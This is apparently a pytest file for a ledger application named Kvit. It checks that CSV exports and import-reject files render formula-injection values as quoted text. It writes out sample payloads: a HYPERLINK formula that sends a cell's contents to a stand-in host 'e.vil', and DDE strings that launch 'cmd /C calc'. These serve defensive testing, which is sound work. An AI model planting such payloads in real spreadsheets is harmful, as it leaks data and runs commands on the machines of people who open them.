"""CSV formula injection: text a bank or an operator wrote (a payer's name, an OrderID, a raw
register line) must reach a spreadsheet as text, never as a formula (`=HYPERLINK(…)`, DDE
`-2+3+cmd|…`). Every CSV Kvit writes goes through one writer (api/spreadsheet.py)."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from fastapi.testclient import TestClient

from api.auth import Role
from api.spreadsheet import FORMULA_START, neutral_cell
from ledger.application import Ledger
from ledger.notices.line import COLUMNS
from tests.api.helpers import PUBLIC_URL, Headers, World, bearer, build_app, make_world
from tests.fixtures import ACCOUNT_NUMBER, INN

KVIT = str(Path(sys.executable).with_name("kvit"))
SBER = "044525225"
LINK = '=HYPERLINK("http://e.vil/?"&A1,"Открыть")'
PAYER = "@SUM(1+9)*cmd|' /C calc'!A0"
DDE = "-2+3+cmd|' /C calc'!A0"
ORDER_ID = '=HYPERLINK("http://e.vil","x")+1'  # 32 printable ASCII characters
assert len(ORDER_ID) == 32


@pytest.fixture
def operator() -> Headers:
    return bearer(Role.OPERATOR)


@pytest.fixture
def client(tmp_path: Path, memory_ledger: Ledger) -> Iterator[TestClient]:
    with TestClient(build_app(tmp_path, memory_ledger), base_url=PUBLIC_URL) as test_client:
        yield test_client


@pytest.fixture
def world(client: TestClient, operator: Headers) -> World:
    return make_world(client, operator, bearer(Role.RESIDENT, "payer-anna"))


def formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: a formula start that is not a plain number."""
    number = re.compile(r"-?[0-9]+(,[0-9]+)?")
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_START) and not number.fullmatch(cell)
    ]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+7 (495) 000-00-00", "'+7 (495) 000-00-00"),
        (DDE, "'" + DDE),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1000,00", "-1000,00"),  # a refund's amount stays a number
        ("-5", "-5"),
        (-5, "-5"),
        ("-", "'-"),
        ("-1,2,3", "'-1,2,3"),
        ("Иванов И. И.", "Иванов И. И."),
        ("a=b", "a=b"),
        (None, ""),
        (12, "12"),
    ],
)
def test_a_cell_that_starts_a_formula_is_text_and_a_number_stays_a_number(
    value: object, cell: str
) -> None:
    assert neutral_cell(value) == cell


def test_the_supplier_register_csv_writes_formulas_as_text(
    client: TestClient, world: World, operator: Headers
) -> None:
    notice = {
        "order_id": ORDER_ID,
        "order_date": "2026-03-15",
        "amount": 100000,
        "payer": PAYER,
        "recipient_inn": INN,
        "account_number": ACCOUNT_NUMBER,
    }
    posted = client.post("/v1/notices", params={"bank": SBER}, json=notice, headers=operator)
    assert posted.status_code == 201, posted.text
    annul = {"order_id": ORDER_ID, "annul_date": "2026-03-20"}
    annulled = client.post(
        "/v1/notices/annulments", params={"bank": SBER}, json=annul, headers=operator
    )
    assert annulled.json()["outcome"] == "annulled", annulled.text
    day = datetime.now(UTC).astimezone(ZoneInfo("Europe/Moscow")).date().isoformat()
    exported = client.get(
        f"/v1/suppliers/{world.supplier_id}/register",
        params={"date": day, "format": "csv", "min_position": annulled.headers["Kvit-Position"]},
        headers=operator,
    )
    assert exported.status_code == 200, exported.text
    text = exported.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    received, reversed_ = rows[1], rows[2]
    assert received[11] == "'" + PAYER and received[6] == "'" + ORDER_ID
    assert reversed_[12] == "-1000,00"  # the annulment's amount: still a number
    assert formulas(rows) == []
    assert f';"\'{PAYER}";' in text  # and quoted whole, as OWASP says


def test_the_rejects_file_of_an_import_writes_formulas_as_text(tmp_path: Path) -> None:
    values = dict.fromkeys(COLUMNS, "") | {
        "order_date": "15.03.2026",
        "amount": "10,00",
        "recipient_inn": INN,
        "account_number": ACCOUNT_NUMBER,
    }
    bad_id = values | {"order_id": LINK.replace(";", ",")}  # too short: invalid_order_id
    bad_amount = values | {"order_id": f"1{SBER}{1:022d}", "amount": DDE, "payer": "@x"}
    rows = [";".join(COLUMNS), *(";".join(v[c] for c in COLUMNS) for v in (bad_id, bad_amount))]
    register = tmp_path / "register.csv"
    register.write_text("\n".join(rows) + "\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    env = {k: v for k, v in os.environ.items() if not k.startswith("KVIT_")}
    env["KVIT_DATA_DIR"] = str(tmp_path / "var")
    done = subprocess.run(
        [KVIT, "notices", "import", "--json", "--rejects", str(rejects), str(register)],
        env=env, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    written = list(csv.reader(io.StringIO(rejects.read_text("utf-8-sig")), delimiter=";"))
    assert [row[2] for row in written[1:]] == ["invalid_order_id", "invalid_amount"]
    assert written[1][1] == "'" + LINK.replace(";", ",")  # the order_id column
    assert written[1][4].startswith("'=HYPERLINK")  # the raw line
    assert formulas(written) == []
